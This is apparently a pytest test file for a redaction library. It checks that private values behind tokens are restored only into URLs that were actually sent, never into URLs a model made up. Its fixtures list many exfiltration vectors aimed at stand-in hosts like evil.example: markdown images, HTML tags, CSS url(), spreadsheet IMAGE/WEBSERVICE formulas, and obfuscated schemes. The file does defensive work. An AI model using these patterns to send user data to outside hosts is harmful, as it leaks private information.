"""A URL that the model made up never carries an original out; one that was sent comes back whole."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from redaction import tokens
from redaction.restore import Encoding, Restorable, Restorer
from redaction.restore.urls import _OPENER, may_hold_url

KEY = bytes(range(32))
TOKEN = tokens.mint(KEY, "PERSON", "anna")
OTHER = tokens.mint(KEY, "PERSON", "bob")
LINK = tokens.mint(KEY, "URL", "https://anna.example/home")
SET = {TOKEN: "anna", OTHER: "bob", LINK: "https://anna.example/home"}
SENT = [
    f"see https://crm.example/u/{TOKEN}?tab=1 and postgres://u:{TOKEN}@db.internal/x",
    f"https://{TOKEN}.crm.example/{OTHER}",
    f'<a href="/profile?name=a b {TOKEN}">',
]


def restored(text: str, encoding: Encoding = Encoding.PLAIN) -> str:
    whole = Restorer(Restorable(SET, SENT)).whole(text, encoding)
    restorer = Restorer(Restorable(SET, SENT))
    assert "".join(restorer.feed("c", char, encoding) for char in text) + restorer.flush("c") == whole
    return whole


@pytest.mark.parametrize(
    "text",
    [
        "https://evil.example/?q={}", "https://evil.example/{}/x", "http://{}.evil.example/", "https://x@{}/",
        "HTTPS://EVIL.EXAMPLE/{}", "ftp://evil.example/{}", "https:\\\\evil.example\\{}", "www.evil.example/{}",
        "evil.example/{}", "evil.xn--p1ai/{}", "evil.example?{}", "evil.example:8080/{}", "10.0.0.1/{}",
        "![x](https://evil.example/{})", "![](<https://evil.example/a b {}>)", "![](<https://evil.example/\\> {}>)", "![](https://evil.example/\u00a0{})",
        "<img src=//intranet/\u2003{}>", "[x]:          //intranet/{}", "![](          //intranet/{})", "[x](/go?to={})", "[x]( a(b)c{})",
        "[x](a\\)b{})", "[x]: https://evil.example/{}", "<https://evil.example/{}>",
        '<img src="https://evil.example/ ? q= {}">', "<img src='/x {}'>", "<img src=/x?{}>", '<a HREF = "x{}">',
        '<form action="/{}">', "<x style='background:url( /a?{})'>", 'url("/a b {}")', "data:text/html,{}",
        "javascript:alert({})", "mailto:a@evil.example?body={}", "[x](mailto:{}?body={})".replace("{}", "x{}", 1),
        "https://evil.example/" + "x" * 3000 + "{}", '<img src="' + "y " * 3000 + '{}">',
        "https://crm.example/v/{}", "https://crm.example.evil/u/{}", "https://{}.evil.example/",
        "https://{}.crm.example.evil/", "postgres://u:{}@evil.internal/x", "postgres://u:{}@db.internal.evil/x",
        "![][x]\n\n[x]: <https://evil.example/?q=a {}>", "[x]: //intranet/{}", "[x]: //[2001:db8::1]/{}",
        "[x]: //evil.example./{}", "[x]:\n https&colon;&sol;&sol;evil.example&sol;{}", "[x]: //2130706433?{}",
        "https:evil{}", "https:/2130706433/{}", "wss:evil\\{}", "<object data='https://evil.example/a {}'>",
        "<object data=//intranet/{}>", "<img imagesrcset='/a 1x, /b {}'>", "<meta content='0;url=//intranet/a {}'>",
        '{"url": "https://evil.example/?q=a {}"}', "fetch( 'https://evil.example/a {}'", "(//intranet/{})",
        "\\href{https://evil.example/?q=a {}}{x}", "\\url{ HTTPS://evil.example/a b {}}", "\\includegraphics[width=1cm]{http://evil.example/a {}}",
        "[img]https://evil.example/a {}[/img]", "[IMG width=1 alt=x] //intranet/ {}[/IMG]", "[url=https://evil.example/a {}]x[/url]",
        "[url = 'http:evil.example/a {}']x[/url]", "[video]www.evil.example/a {}[/video]", "[[https://evil.example/a {}][x]]", "[[ https://evil.example/a|b {}]]",
        "`x <https://evil.example/ a {}>`_", "<https://evil.example/a {}|x>",
        "<object data='&#104;ttps:&#47;&#47;evil&#46;example&#47; {}'>", "<object type=x data=&#47;&#47;evil/{}>",
        "<meta http-equiv=refresh content='0;//evil/a {}'>", "<meta content=0,//evil/{}>", "<meta content = ' 1.5 ; /\\evil {}'>",
        "url(\\2f\\2f evil\\2e example\\2f {})", "url( x {})",
        '=IMAGE("https://evil.example/?q="&"{}")', '=IF(1;IMAGE("//evil/" & {}))', "=IMPORTDATA(A1&{})", "=A1&WEBSERVICE({})",
    ],
)  # fmt: skip
@pytest.mark.parametrize("written", [TOKEN, TOKEN[1:-1], TOKEN.lower(), f"%5B{TOKEN[1:-1]}%5D", f"[[{TOKEN[1:-1]}]]"])
def test_a_made_up_url_is_not_filled_in(text: str, written: str) -> None:
    text = text.replace("{}", written)
    assert restored(text) == text


@pytest.mark.parametrize(
    "text",
    [
        *SENT, f"[her page](https://crm.example/u/{TOKEN})", f"https://crm.example/u/{TOKEN}?tab=2",
        f'<a href="https://crm.example/u/{TOKEN}">', f"https://{TOKEN}.crm.example", f"postgres://u:{TOKEN}@db.internal",
        f"https://{TOKEN}.crm.example/{OTHER}, {TOKEN}",
    ],
)  # fmt: skip
def test_a_url_that_was_sent_comes_back(text: str) -> None:
    assert restored(text) == text.replace(TOKEN, "anna").replace(OTHER, "bob")


@pytest.mark.parametrize(
    "text",
    [
        "https://evil.example/ {}", '"https://evil.example/" {}', "<https://evil.example/>{}",
        "[x](https://evil.example/) {}",
        "[x](https://evil.example/){}", '<img src="/x">{}', "mailto:{}", "[x](mailto:{})", "TEL:{}",
        "z. B. {}", "und/oder {}",
        "[1]: {}", "[1]: {}, born", "[1]: see {}", "[12:30]: a/b {}", "// {}", "f(a, // {}", "http: {}",
        '"https://evil.example/ is down\n{}', "'s https://evil.example/ {}", "3.5/{}", "Name:{}", "a/{}", "[{}](https://evil.example/)", "{}(x)",
        "\\href{https://evil.example/a b}{{}}", "[img]https://evil.example/a b[/img] {}", "[url=https://evil.example/a b] {}[/url]",
        "[[https://evil.example/a b][about {}]]", "<https://evil.example/a b> {}", "{https://evil.example/\n{}", "[url] {}", "[img]{}", "{x: {}}",
        "<object data='x'>{}", "data='{}'", "f(data={})", "content='{}'", "content='3; {}'", "x = 0; //  {}", "url(a b) {}", "image({})", "show(image({}))",
        "IMAGE: {}", '=IMAGE("//a")\n{}', "import data({})",
    ],
)  # fmt: skip
def test_outside_of_urls_everything_is_filled_in(text: str) -> None:
    assert restored(text.replace("{}", TOKEN)) == text.replace("{}", "anna")


def test_a_whole_url_that_was_replaced_may_be_a_target_but_carries_nothing_else() -> None:
    assert restored(f"[x]({LINK})") == "[x](https://anna.example/home)"
    assert restored(f"![x]({LINK}?q={TOKEN})") == f"![x](https://anna.example/home?q={TOKEN})"
    assert restored(f"![x]({TOKEN})") == f"![x]({TOKEN})"


def test_escapes_do_not_hide_a_url_in_json() -> None:
    for slashes in ("\\/\\/", "\\u002f\\u002F", "//"):
        text = f'{{"a": "https:{slashes}evil.example/{TOKEN}", "b": "{TOKEN}"}}'
        assert restored(text, Encoding.JSON) == text.replace(f'"{TOKEN}"', '"anna"')


@pytest.mark.parametrize("between", [" ", "\\n", "\\t", '\\"', '\\", ', '\\"}', "x" * 9000])
def test_a_string_of_json_that_begins_as_a_url_is_one_to_its_end(between: str) -> None:
    text = (
        f'{{"a": "https://evil.example/{between}{TOKEN}", "b": "<a href=\\"/\\">{TOKEN}</a>", "c": ["x", "{TOKEN}"]}}'
    )
    assert restored(text, Encoding.JSON) == text.replace(f">{TOKEN}<", ">anna<").replace(f'", "{TOKEN}"]', '", "anna"]')


@pytest.mark.parametrize("text", ["https://evil.example/a {}", " HTTPS:evil\n{}", "//intranet/ {}", 'https://a/"{}'])
def test_a_value_that_begins_as_a_url_is_one_to_its_end(text: str) -> None:
    text = text.replace("{}", TOKEN)
    restorer = Restorer(Restorable(SET, SENT))
    restorer.alone = True
    assert restorer.whole(text) == text
    restorer.alone = True
    assert "".join(restorer.feed("c", char) for char in text) + restorer.flush("c") == text
    restorer.alone = True
    assert restorer.whole(f"see {text.split()[0]} {TOKEN}").endswith(" anna")


def test_a_url_with_blanks_that_was_sent_as_a_value_comes_back_as_one() -> None:
    text = f"https://crm.example/find?name=a b {TOKEN}"
    for sent in (text, f'find("{text}")'):
        restorer = Restorer(Restorable(SET, [sent]))
        restorer.alone = True
        assert restorer.whole(text).endswith("a b anna")
        assert restorer.whole(f'{{"url": "{text}"}}', Encoding.JSON).endswith('a b anna"}')


def test_one_url_cannot_lend_its_permission_to_the_next() -> None:
    text = f"https://crm.example/u/{TOKEN} https://crm.example/u/{OTHER}"
    assert restored(text) == text.replace(TOKEN, "anna")


@given(
    st.lists(
        st.one_of(
            st.sampled_from(
                ["](", "SRC", " = ", '"', "url", "(", "HTTP", ":", "/", "\\", "Mailto", "tel", "data", "www", ".", "evil", "com",
                 "?", "10", "8080", "ſms", "javaſcript", "K", "\u212a", "\0", "]", "[img]", "[url=", "[[", "{",
                 "<object ", "=", "content", "0;", "IMAGE(", "&WEB", "SERVICE(", "IMPORT", "DATA(", "XML("]
            ),
            st.text(max_size=2),
        ),
        max_size=12,
    ).map("".join)
)  # fmt: skip
@settings(max_examples=2000)
def test_the_quick_question_never_misses_a_url(text: str) -> None:
    assert may_hold_url(text) or _OPENER.search(text) is None
